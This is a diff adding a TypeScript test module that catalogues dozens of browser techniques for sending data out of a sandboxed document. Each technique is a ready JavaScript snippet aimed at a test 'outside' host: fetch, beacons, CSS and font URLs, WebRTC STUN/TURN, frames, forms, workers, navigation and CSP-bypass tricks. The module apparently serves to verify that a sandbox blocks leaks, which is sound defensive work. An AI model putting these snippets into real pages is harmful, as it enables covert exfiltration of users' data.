@@ -1,0 +1,497 @@
+import { noControl, type WindowAttempt } from './attempt.ts';
+
+const element = (html: string) => `root.insertAdjacentHTML('beforeend', ${html});`;
+const style = (css: string) =>
+  `const sheet = document.createElement('style'); sheet.textContent = ${css}; document.head.append(sheet);`;
+const link = (rel: string, more = '') =>
+  `const link = document.createElement('link'); link.rel = '${rel}'; ${more} link.href = outside + 'link'; document.head.append(link);`;
+const peer = (server: string, made = 'RTCPeerConnection') =>
+  `const peer = new ${made}({ iceServers: [${server}], iceTransportPolicy: 'all' }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await new Promise((resolve) => setTimeout(resolve, 700));`;
+const child = (script: string) =>
+  `const frame = document.createElement('iframe'); frame.srcdoc = '<script>' + ${script} + '</scr' + 'ipt>'; root.append(frame);`;
+
+/** Ways to send something, without leaving the document. */
+export const windowNetwork: readonly WindowAttempt[] = [
+  {
+    id: 'fetch',
+    name: 'the browser’s own fetch, taken from a fresh frame',
+    code: `const frame = document.createElement('iframe'); root.append(frame); await (frame.contentWindow?.fetch ?? fetch).call(frame.contentWindow, outside + 'x'); return 'reached';`,
+    control: 'request',
+  },
+  {
+    id: 'fetchKept',
+    name: 'fetch as it stands in the document, kept alive',
+    code: `await fetch(outside + 'x', { mode: 'no-cors', keepalive: true }); return 'reached';`,
+    control: 'request',
+  },
+  {
+    id: 'xhr',
+    name: 'XMLHttpRequest',
+    code: `const request = new XMLHttpRequest(); request.open('POST', outside + 'x'); request.send('secret'); await new Promise((done) => (request.onloadend = done));`,
+    control: 'request',
+  },
+  {
+    id: 'xhrSync',
+    name: 'a synchronous XMLHttpRequest',
+    code: `const request = new XMLHttpRequest(); request.open('GET', outside + 'x', false); request.send();`,
+    control: 'request',
+  },
+  {
+    id: 'socket',
+    name: 'WebSocket',
+    code: `await new Promise((done) => { const socket = new WebSocket(outside.replace('http', 'ws')); socket.onopen = socket.onerror = done; });`,
+    control: 'request',
+  },
+  {
+    id: 'socketStream',
+    name: 'WebSocketStream',
+    code: `await new WebSocketStream(outside.replace('http', 'ws')).opened;`,
+    control: 'request',
+  },
+  {
+    id: 'events',
+    name: 'EventSource',
+    code: `await new Promise((done) => (new EventSource(outside + 'x').onerror = done));`,
+    control: 'request',
+  },
+  { id: 'beacon', name: 'sendBeacon', code: `navigator.sendBeacon(outside + 'x', 'secret');`, control: 'request' },
+  {
+    id: 'later',
+    name: 'fetchLater',
+    code: `fetchLater(outside + 'x', { activateAfter: 0 }); await new Promise((done) => setTimeout(done, 300));`,
+    control: 'request',
+  },
+  {
+    id: 'ping',
+    name: 'a link with ping',
+    code: `root.innerHTML = '<iframe name="ponged"></iframe><a href="about:blank" target="ponged">x</a>'; root.lastChild.ping = outside + 'x'; root.lastChild.click();`,
+    control: 'request',
+  },
+  { id: 'img', name: 'an image', code: `new Image().src = outside + 'x';`, control: 'request' },
+  {
+    id: 'srcset',
+    name: 'an image by srcset',
+    code: element(`'<img srcset="' + outside + 'x 1x">'`),
+    control: 'request',
+  },
+  {
+    id: 'picture',
+    name: 'a source of a picture',
+    code: element(`'<picture><source srcset="' + outside + 'x"><img></picture>'`),
+    control: 'request',
+  },
+  {
+    id: 'svgImage',
+    name: 'an image in SVG',
+    code: element(`'<svg><image href="' + outside + 'x" width="9" height="9"/></svg>'`),
+    control: 'request',
+  },
+  {
+    id: 'svgUse',
+    name: 'an SVG use of another document',
+    code: element(`'<svg><use href="' + outside + 'x.svg#a"/></svg>'`),
+    control: noControl.missing,
+  },
+  {
+    id: 'feImage',
+    name: 'an SVG filter image',
+    code: element(
+      `'<svg width="9" height="9"><filter id="f"><feImage href="' + outside + 'x"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>'`,
+    ),
+    control: 'request',
+  },
+  {
+    id: 'video',
+    name: 'a video',
+    code: element(`'<video src="' + outside + 'x" autoplay muted></video>'`),
+    control: 'request',
+  },
+  {
+    id: 'poster',
+    name: 'a poster of a video',
+    code: element(`'<video poster="' + outside + 'x"></video>'`),
+    control: 'request',
+  },
+  { id: 'audio', name: 'audio', code: `new Audio(outside + 'x').load();`, control: 'request' },
+  {
+    id: 'track',
+    name: 'a track of a video',
+    code: element(`'<video src="data:video/mp4,"><track default kind="subtitles" src="' + outside + 'x"></video>'`),
+    control: noControl.headless,
+  },
+  { id: 'object', name: 'an object', code: element(`'<object data="' + outside + 'x"></object>'`), control: 'request' },
+  { id: 'embed', name: 'an embed', code: element(`'<embed src="' + outside + 'x">'`), control: 'request' },
+  {
+    id: 'inputImage',
+    name: 'an image button',
+    code: element(`'<input type="image" src="' + outside + 'x">'`),
+    control: 'request',
+  },
+  {
+    id: 'script',
+    name: 'a script by URL',
+    code: `const script = document.createElement('script'); script.src = outside + 'x.js'; document.head.append(script);`,
+    control: 'request',
+  },
+  {
+    id: 'moduleScript',
+    name: 'a module script by URL',
+    code: `const script = document.createElement('script'); script.type = 'module'; script.src = outside + 'x.js'; document.head.append(script);`,
+    control: 'request',
+  },
+  {
+    id: 'import',
+    name: 'import() over http',
+    code: `await import(outside + 'x.js'); return 'reached';`,
+    control: 'request',
+  },
+  { id: 'stylesheet', name: 'a stylesheet', code: link('stylesheet'), control: 'request' },
+  { id: 'cssImport', name: 'an import of CSS', code: style(`'@import url(' + outside + 'x.css)'`), control: 'request' },
+  {
+    id: 'background',
+    name: 'a background image',
+    code: `${style(`'#bg { background: url(' + outside + 'x) }'`)} root.insertAdjacentHTML('beforeend', '<p id="bg">x</p>');`,
+    control: 'request',
+  },
+  {
+    id: 'content',
+    name: 'content by URL',
+    code: `${style(`'#ct::before { content: url(' + outside + 'x) }'`)} root.insertAdjacentHTML('beforeend', '<p id="ct">x</p>');`,
+    control: 'request',
+  },
+  {
+    id: 'mask',
+    name: 'a mask image',
+    code: `${style(`'#mk { mask-image: url(' + outside + 'x) }'`)} root.insertAdjacentHTML('beforeend', '<p id="mk">x</p>');`,
+    control: 'request',
+  },
+  {
+    id: 'listStyle',
+    name: 'a list marker image',
+    code: `${style(`'#ls { list-style-image: url(' + outside + 'x) }'`)} root.insertAdjacentHTML('beforeend', '<ul id="ls"><li>x</ul>');`,
+    control: 'request',
+  },
+  {
+    id: 'styleAttribute',
+    name: 'an image in a style attribute',
+    code: element(`'<p style="background: url(' + outside + 'x)">x</p>'`),
+    control: 'request',
+  },
+  {
+    id: 'constructedSheet',
+    name: 'an image in a constructed style sheet',
+    code: `const sheet = new CSSStyleSheet(); sheet.replaceSync('#cs { background: url(' + outside + 'x) }'); document.adoptedStyleSheets = [sheet]; root.insertAdjacentHTML('beforeend', '<p id="cs">x</p>');`,
+    control: 'request',
+  },
+  {
+    id: 'font',
+    name: 'a font of CSS',
+    code: `${style(`'@font-face { font-family: stolen; src: url(' + outside + 'x.woff2) } #ft { font-family: stolen }'`)} root.insertAdjacentHTML('beforeend', '<p id="ft">x</p>'); await document.fonts.load('1em stolen');`,
+    control: 'request',
+  },
+  {
+    id: 'fontFace',
+    name: 'a FontFace',
+    code: `await new FontFace('other', 'url(' + outside + 'x.woff2)').load();`,
+    control: 'request',
+  },
+  { id: 'preload', name: 'a preload', code: link('preload', `link.as = 'image';`), control: 'request' },
+  { id: 'prefetch', name: 'a prefetch', code: link('prefetch'), control: 'request' },
+  { id: 'modulepreload', name: 'a preload of a module', code: link('modulepreload'), control: 'request' },
+  { id: 'icon', name: 'an icon of the document', code: link('icon'), control: noControl.headless },
+  { id: 'manifest', name: 'a web app manifest', code: link('manifest'), control: noControl.headless },
+  {
+    id: 'preconnect',
+    name: 'a preconnect',
+    code: `const link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'http://127.0.0.1:' + port; document.head.append(link);`,
+    control: noControl.automation,
+    leaksUnsealed: true,
+  },
+  {
+    id: 'dnsPrefetch',
+    name: 'a prefetch of a name',
+    code: `const link = document.createElement('link'); link.rel = 'dns-prefetch'; link.href = '//' + host; document.head.append(link);`,
+    control: noControl.headless,
+  },
+  {
+    id: 'speculation',
+    name: 'speculation rules',
+    code: `const script = document.createElement('script'); script.type = 'speculationrules'; script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [outside + 'x'] }] }); document.head.append(script);`,
+    control: noControl.headless,
+  },
+  {
+    id: 'stun',
+    name: 'a STUN request of WebRTC',
+    code: peer(`{ urls: 'stun:127.0.0.1:' + port }`),
+    control: 'datagram',
+  },
+  {
+    id: 'turn',
+    name: 'a TURN request of WebRTC',
+    code: peer(`{ urls: 'turn:127.0.0.1:' + port, username: 'secret', credential: 'x' }`),
+    control: 'datagram',
+  },
+  {
+    id: 'stunChild',
+    name: 'a STUN request of a frame of its own',
+    code: `${child(`'(async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:' + port + '" }] }); peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); })()'`)} await new Promise((done) => setTimeout(done, 700));`,
+    control: 'datagram',
+  },
+  {
+    id: 'stunFresh',
+    name: 'a peer connection taken from a fresh frame',
+    code: `const frame = document.createElement('iframe'); root.append(frame); const Peer = frame.contentWindow.RTCPeerConnection; ${peer(`{ urls: 'stun:127.0.0.1:' + port }`, 'Peer')}`,
+    control: 'datagram',
+  },
+  {
+    id: 'iceName',
+    name: 'a name looked up by WebRTC',
+    code: peer(`{ urls: 'stun:' + host + ':3478' }`),
+    control: noControl.names,
+  },
+  {
+    id: 'frame',
+    name: 'a frame by URL',
+    code: `const frame = document.createElement('iframe'); frame.src = outside + 'x'; root.append(frame);`,
+    control: 'request',
+  },
+  {
+    id: 'frameLater',
+    name: 'a blank frame that goes elsewhere',
+    code: `const frame = document.createElement('iframe'); root.append(frame); frame.contentWindow.location = outside + 'x';`,
+    control: 'request',
+  },
+  {
+    id: 'frameImage',
+    name: 'an image in a frame of its own text',
+    code: `const frame = document.createElement('iframe'); frame.srcdoc = '<img src="' + outside + 'x">'; root.append(frame);`,
+    control: 'request',
+  },
+  {
+    id: 'frameRefresh',
+    name: 'a frame of its own text that refreshes to elsewhere',
+    code: `const frame = document.createElement('iframe'); frame.srcdoc = '<meta http-equiv="refresh" content="0; url=' + outside + 'x">'; root.append(frame);`,
+    control: 'request',
+  },
+  {
+    id: 'frameDataUrl',
+    name: 'a data: frame with an image',
+    code: `const frame = document.createElement('iframe'); frame.src = 'data:text/html,<img src="' + outside + 'x">'; root.append(frame);`,
+    control: 'request',
+  },
+  {
+    id: 'frameBlob',
+    name: 'a blob: frame with an image',
+    code: `const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob(['<img src="' + outside + 'x">'], { type: 'text/html' })); root.append(frame);`,
+    control: 'request',
+  },
+  {
+    id: 'objectHtml',
+    name: 'an object of a data: page with an image',
+    code: `const object = document.createElement('object'); object.data = 'data:text/html,<img src="' + outside + 'x">'; root.append(object);`,
+    control: 'request',
+  },
+  {
+    id: 'fencedFrame',
+    name: 'a fenced frame',
+    code: `const frame = document.createElement('fencedframe'); frame.config = new FencedFrameConfig(outside + 'x'); root.append(frame); return 'reached';`,
+    control: noControl.missing,
+  },
+  {
+    id: 'form',
+    name: 'a form',
+    code: `${element(`'<form action="' + outside + 'x" method="post" target="_blank"><input name="a" value="secret"></form>'`)} root.querySelector('form').submit();`,
+    control: 'request',
+  },
+  {
+    id: 'formFrame',
+    name: 'a form into a frame of its own',
+    code: `${element(`'<iframe name="sink"></iframe><form action="' + outside + 'x" method="post" target="sink"><input name="a" value="secret"></form>'`)} root.querySelector('form[target=sink]').requestSubmit();`,
+    control: 'request',
+  },
+  {
+    id: 'formButton',
+    name: 'a button with formaction',
+    code: `${element(`'<iframe name="sink2"></iframe><form target="sink2"><button formaction="' + outside + 'x" formtarget="sink2">x</button></form>'`)} root.querySelector('form[target=sink2] button').click();`,
+    control: 'request',
+  },
+  { id: 'open', name: 'a window of another site', code: `window.open(outside + 'x'); `, control: noControl.gesture },
+  {
+    id: 'blank',
+    name: 'a link to a new window',
+    code: `const a = document.createElement('a'); a.href = outside + 'x'; a.target = '_blank'; root.append(a); a.click();`,
+    control: 'request',
+  },
+  {
+    id: 'worker',
+    name: 'a worker that fetches',
+    code: `new Worker(URL.createObjectURL(new Blob(['fetch("' + outside + 'x")'])));`,
+    control: 'request',
+  },
+  {
+    id: 'workerData',
+    name: 'a data: worker that fetches',
+    code: `new Worker('data:text/javascript,fetch("' + outside + 'x")');`,
+    control: 'request',
+  },
+  {
+    id: 'sharedWorker',
+    name: 'a shared worker that fetches',
+    code: `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + outside + 'x")'])));`,
+    control: 'request',
+  },
+  {
+    id: 'serviceWorker',
+    name: 'a service worker',
+    code: `await navigator.serviceWorker.register(outside + 'x.js');`,
+    control: noControl.missing,
+  },
+  {
+    id: 'worklet',
+    name: 'an audio worklet by URL',
+    code: `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(outside + 'x.js');`,
+    control: 'request',
+  },
+  {
+    id: 'paintWorklet',
+    name: 'a paint worklet by URL',
+    code: `await CSS.paintWorklet.addModule(outside + 'x.js');`,
+    control: 'request',
+  },
+  {
+    id: 'payment',
+    name: 'a payment method by URL',
+    code: `await new PaymentRequest([{ supportedMethods: outside + 'x' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment();`,
+    control: 'request',
+  },
+  {
+    id: 'federated',
+    name: 'a federated sign-in',
+    code: `await navigator.credentials.get({ identity: { providers: [{ configURL: outside + 'x', clientId: 'x' }] } }); return 'reached';`,
+    control: 'request',
+  },
+  {
+    id: 'xslt',
+    name: 'an XML document with a stylesheet by URL',
+    code: `const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob(['<?xml version="1.0"?><?xml-stylesheet type="text/css" href="' + outside + 'x"?><a/>'], { type: 'text/xml' })); root.append(frame);`,
+    control: 'request',
+  },
+  {
+    id: 'trustTokens',
+    name: 'a private state token',
+    code: `await fetch(outside + 'x', { privateToken: { version: 1, operation: 'token-request' } });`,
+    control: noControl.missing,
+  },
+  {
+    id: 'sharedStorage',
+    name: 'shared storage',
+    code: `await sharedStorage.set('a', 'b'); return 'reached';`,
+    control: noControl.missing,
+  },
+];
+
+/** Ways to leave the document with something in the address. */
+export const windowNavigation: readonly WindowAttempt[] = (
+  [
+    {
+      id: 'download',
+      name: 'a download',
+      code: `const a = document.createElement('a'); a.href = outside + 'x'; a.download = 'x'; root.append(a); a.click();`,
+      control: 'request',
+    },
+    {
+      id: 'reportUri',
+      name: 'a report of a policy of its own',
+      code: `const meta = document.createElement('meta'); meta.httpEquiv = 'Content-Security-Policy'; meta.content = "img-src 'none'; report-uri " + outside + 'x'; document.head.append(meta); new Image().src = 'data:image/png,x';`,
+      control: { none: 'browsers take no reports from a policy in the document' },
+    },
+    {
+      id: 'metaAllow',
+      name: 'a wider policy in the document',
+      code: `const meta = document.createElement('meta'); meta.httpEquiv = 'Content-Security-Policy'; meta.content = 'img-src *; connect-src *; frame-src *'; document.head.append(meta); new Image().src = outside + 'x';`,
+      control: 'request',
+    },
+    {
+      id: 'base',
+      name: 'a base URL of another site',
+      code: `const base = document.createElement('base'); base.href = outside; document.head.append(base); new Image().src = 'relative';`,
+      control: 'request',
+    },
+    { id: 'href', name: 'location.href', code: `location.href = outside + 'x';`, control: 'request' },
+    { id: 'assign', name: 'location.assign', code: `location.assign(outside + 'x');`, control: 'request' },
+    { id: 'replace', name: 'location.replace', code: `location.replace(outside + 'x');`, control: 'request' },
+    { id: 'navigate', name: 'navigation.navigate', code: `navigation.navigate(outside + 'x');`, control: 'request' },
+    {
+      id: 'anchor',
+      name: 'a click on a link',
+      code: `const a = document.createElement('a'); a.href = outside + 'x'; root.append(a); a.click();`,
+      control: 'request',
+    },
+    {
+      id: 'refresh',
+      name: 'a refresh of the document',
+      code: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0; url=' + outside + 'x'; document.head.append(meta);`,
+      control: 'request',
+    },
+    {
+      id: 'noContent',
+      name: 'an address that answers with nothing',
+      code: `location.href = outside + 'status/204';`,
+      control: 'request',
+    },
+    {
+      id: 'redirect',
+      name: 'an address that redirects',
+      code: `location.href = outside + 'status/302';`,
+      control: 'request',
+    },
+    {
+      id: 'selfWindow',
+      name: 'window.open in its own frame',
+      code: `window.open(outside + 'x', '_self');`,
+      control: 'request',
+    },
+    {
+      id: 'formSelf',
+      name: 'a form that replaces the document',
+      code: `root.innerHTML = '<form action="' + outside + 'x"><input name="a" value="secret"></form>'; root.firstChild.submit();`,
+      control: 'request',
+    },
+    {
+      id: 'dataPage',
+      name: 'a data: page that sends',
+      code: `location.href = 'data:text/html,<img src="' + outside + 'x">';`,
+      control: 'request',
+    },
+    {
+      id: 'blobPage',
+      name: 'a blob: page that sends',
+      code: `location.href = URL.createObjectURL(new Blob(['<img src="' + outside + 'x">'], { type: 'text/html' }));`,
+      control: 'request',
+    },
+    {
+      id: 'scriptUrl',
+      name: 'a javascript: address that sends',
+      code: `location.href = 'javascript:void(new Image().src="' + outside + 'x")';`,
+      control: 'request',
+    },
+    {
+      id: 'rewritten',
+      name: 'a document written anew without a policy',
+      code: `document.open(); document.write('<img src="' + outside + 'x">'); document.close();`,
+      control: 'request',
+    },
+    {
+      id: 'reloaded',
+      name: 'a reload with data in the hash',
+      code: `location.hash = 'x'; location.reload(); await new Promise((done) => setTimeout(done, 100)); new Image().src = outside + 'x';`,
+      control: { none: 'a frame of text is empty after a reload' },
+    },
+    {
+      id: 'historyFlood',
+      name: 'a thousand entries of history',
+      code: `for (let at = 0; at < 1000; at += 1) history.pushState(at, ''); history.go(-500); new Image().src = outside + 'x';`,
+      control: 'request',
+    },
+  ] satisfies Omit<WindowAttempt, 'leaves'>[]
+).map((attempt) => ({ ...attempt, leaves: true }));
